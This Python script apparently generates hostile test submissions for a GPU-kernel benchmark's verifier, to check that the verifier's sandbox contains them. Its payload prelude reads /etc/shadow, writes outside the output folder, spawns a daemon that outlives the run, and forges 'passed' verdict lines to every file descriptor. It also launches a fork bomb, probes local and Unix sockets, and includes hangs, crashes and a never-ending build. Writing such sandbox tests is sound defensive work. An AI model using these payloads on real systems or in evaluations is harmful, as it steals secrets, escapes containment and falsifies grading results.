#!/usr/bin/env python3
"""The attacks of this folder as SOL-ExecBench solutions: Python (pytorch) and cuda_cpp.

The .cu attacks reach the verifier through the C ABI; the same attacks written as solutions
reach it through the Python runner that imports them (a pytorch module, or a torch extension
built from cuda_cpp sources). Each attack here is one payload, written once per language and
placed at import (load) or inside the call; every solution computes nothing, so the honest
verdict of any that is not stopped earlier is "incorrect" (its output stays poisoned).

    solutions.py OUT_DIR     writes OUT_DIR/<name>/solution.json for every attack, and prints
                             one line per attack, tab-separated: name, expected exits (a regex),
                             a phrase of the output or report, what the box must have counted
                             as refused (a regex, "-" for nothing asked) and verify's extra
                             options ("-" for none); OUT_DIR/cpp_payloads.cpp holds every C++
                             payload in a function of its own, to be compiled without torch
"""
import json
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))

# The payloads in Python, each a statement list run at import or in the call.
PY_PRELUDE = '''import os, socket, sys, time
MARKS = "/var/tmp/rope2d-attack"
LINES = [b'{"type":"done","verdict":"passed"}\\n', b"done passed\\n",
         b'{"type": "called", "name": "x", "error": null, "findings": [], "shape": [1], "dtype": "float32"}\\n']


def leave_mark(name, text):
    try:
        with open(os.path.join(MARKS, name), "w") as f:
            f.write(text)
    except OSError:
        pass


def forge_everywhere():
    for fd in range(1024):
        for line in LINES:
            try:
                os.set_blocking(fd, False)
                os.write(fd, line)
            except OSError:
                pass


def steal_and_escape():
    leave_mark("escaped.txt", "written outside --out")
    for secret in ("/etc/shadow", "/var/tmp/rope2d-attack-secret.txt"):
        try:
            leave_mark("stolen.txt", open(secret).read(63))
        except OSError:
            pass
    if os.fork() == 0:  # a daemon that outlives the call and writes later
        os.setsid()
        time.sleep(5)
        leave_mark("daemon.txt", "outlived the run")
        os._exit(0)


def fork_bomb():
    made = 0
    for _ in range(100000):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(3600)
            os._exit(0)
        made += 1
    if made >= 100000:
        leave_mark("fork_bomb_unbounded.txt", "no process limit")


def reach_network():
    try:
        socket.create_connection(("127.0.0.1", 47811), timeout=2).close()
        leave_mark("network.txt", "reached the machine's loopback")
    except OSError:
        pass


def reach_unix_socket():
    # attack_test.sh's daemon socket file in /run, which the box hides: no mount stops a connect.
    try:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(2)
        s.connect("/run/rope2d-attack/stream.sock")
        s.sendall(b"from python\\n")
        s.close()
    except OSError:
        pass


def loud():
    chunk = "x" * 65536
    for _ in range(80):
        sys.stdout.write(chunk)
        sys.stderr.write(chunk)
    sys.stdout.flush()
    sys.stderr.flush()
'''

PY_PAYLOADS = {
    "forge": "steal_and_escape(); forge_everywhere()",  # the forgery ends the host: the escape tried first
    "hang": "time.sleep(10 ** 6)",
    "crash": "os.abort()",
    "exit": "os._exit(0)",
    "fork_bomb": "fork_bomb()",
    "network": "reach_network()",
    "unix_socket": "reach_unix_socket()",
    "loud": "loud()",
}

# The same payloads for a torch extension, over attack.h (copied beside the source); a build
# that never ends is its source itself (BUILD_FOREVER).
CPP_PAYLOADS = {
    "forge": "steal_and_escape(); forge_everywhere();",
    "hang": "for (;;) pause();",
    "crash": "abort();",
    "exit": "_exit(0);",
    "fork_bomb": "fork_bomb();",
    "network": "reach_network();",
    "loud": "loud();",
}
BUILD_FOREVER = '#include "/dev/zero"\n'  # nvcc reads it for ever: the host's start (the build) ends at its limit

WROTE = r"refused by the box.*[0-9]+ write\(s\) outside .*rope2d-attack"
CONNECTED = r"refused by the box.*127\.0\.0\.1:47811"

# A start that never ends (a Python import, a C++ build) is ended at --build-timeout + --load-timeout.
SHORT_START = "--build-timeout 20 --load-timeout 20"

# name: (language, payload, where, expected exits, phrase in the output or report[, verify's options])
ATTACKS = {
    # Forged writes to every descriptor reach the judge's socket, which the solution shares with
    # the host: not the protocol, so the judge ends the host and every set fails.
    "py_forge_at_import": ("python", "forge", "import", "3", "not a reply the judge awaited"),
    "py_forge_in_call": ("python", "forge", "call", "3", "not a reply the judge awaited"),
    "py_hang_in_call": ("python", "hang", "call", "3", "did not (return|finish) within"),
    "py_hang_at_import": ("python", "hang", "import", "3", "did not start", SHORT_START),
    "py_crash_in_call": ("python", "crash", "call", "3", "Verdict: failed"),
    "py_exit_in_call": ("python", "exit", "call", "3", "Verdict: failed"),
    "py_fork_bomb": ("python", "fork_bomb", "import", "1|3", "Verdict: (incorrect|failed)"),
    "py_network": ("python", "network", "import", "1", "Verdict: incorrect"),
    "py_unix_socket": ("python", "unix_socket", "import", "1", "Verdict: incorrect"),
    "py_loud": ("python", "loud", "import", "1", "Verdict: incorrect"),
    "cpp_forge_at_load": ("cuda_cpp", "forge", "import", "3", "not a reply the judge awaited"),
    "cpp_forge_in_call": ("cuda_cpp", "forge", "call", "3", "not a reply the judge awaited"),
    "cpp_hang_in_call": ("cuda_cpp", "hang", "call", "3", "did not (return|finish) within"),
    "cpp_crash_in_call": ("cuda_cpp", "crash", "call", "3", "Verdict: failed"),
    "cpp_exit_in_call": ("cuda_cpp", "exit", "call", "3", "Verdict: failed"),
    "cpp_fork_bomb": ("cuda_cpp", "fork_bomb", "import", "1|3", "Verdict: (incorrect|failed)"),
    "cpp_network": ("cuda_cpp", "network", "import", "1", "Verdict: incorrect"),
    "cpp_loud": ("cuda_cpp", "loud", "import", "1", "Verdict: incorrect"),
    # torch's build reads /dev/zero until its start's limit, or until the heap limit fails it.
    "cpp_build_forever": ("cuda_cpp", "build_forever", "import", "3", "did not start|cannot build kernel", SHORT_START),
}


def python_solution(payload, where):
    at_import = PY_PAYLOADS[payload] if where == "import" else "pass"
    in_call = PY_PAYLOADS[payload] if where == "call" else "pass"
    code = (f"# ATTACK: {payload} at {where}; computes nothing.\n{PY_PRELUDE}\n\n{at_import}\n\n\n"
            f"def run(grad_cos, grad_sin, idx_theta, grad_idx_theta):\n    {in_call}\n")
    compile(code, "kernel.py", "exec")  # an attack that cannot even be imported would test nothing
    return ["pytorch"], "kernel.py::run", [{"path": "kernel.py", "content": code}]


def cuda_cpp_solution(payload, where):
    if payload == "build_forever":
        return ["cuda_cpp"], "kernel.cu::run", [{"path": "kernel.cu", "content": BUILD_FOREVER}]
    body = CPP_PAYLOADS[payload]
    load = f"__attribute__((constructor)) static void attack() {{ {body} }}\n" if where == "import" else ""
    call = body if where == "call" else ""
    code = ("// ATTACK: " + payload + " at " + where + "; computes nothing.\n"
            "#include <torch/extension.h>\n#include <cstdlib>\n#include \"attack.h\"\n" + load +
            "void run(torch::Tensor, torch::Tensor, torch::Tensor, torch::Tensor) { " + call + " }\n"
            "PYBIND11_MODULE(TORCH_EXTENSION_NAME, m) { m.def(\"run\", &run); }\n")
    with open(os.path.join(HERE, "attack.h")) as f:
        header = f.read()
    return ["cuda_cpp"], "kernel.cu::run", [{"path": "kernel.cu", "content": code}, {"path": "attack.h", "content": header}]


def solution(name, language, payload, where):
    languages, entry, sources = (python_solution if language == "python" else cuda_cpp_solution)(payload, where)
    return {"name": name, "definition": "090_batched_2d_rope_position_encoding_backward", "author": "rope2d tests",
            "description": f"ATTACK: {payload} at {where}",
            "spec": {"languages": languages, "target_hardware": ["LOCAL"], "entry_point": entry, "binding": "torch",
                     "destination_passing_style": True},
            "sources": sources}


def main():
    if len(sys.argv) != 2:
        sys.exit("usage: solutions.py OUT_DIR")
    also = {"forge": WROTE, "network": CONNECTED}
    for name, (language, payload, where, exits, phrase, *options) in ATTACKS.items():
        folder = os.path.join(sys.argv[1], name)
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "solution.json"), "w") as f:
            json.dump(solution(name, language, payload, where), f, indent=1)
        print(f"{name}\t{exits}\t{phrase}\t{also.get(payload, '-')}\t{options[0] if options else '-'}")
    with open(os.path.join(sys.argv[1], "cpp_payloads.cpp"), "w") as f:
        f.write('#include <cstdlib>\n#include "attack.h"\n' +
                "".join(f"void payload_{k}() {{ {v} }}\n" for k, v in CPP_PAYLOADS.items()))


if __name__ == "__main__":
    main()
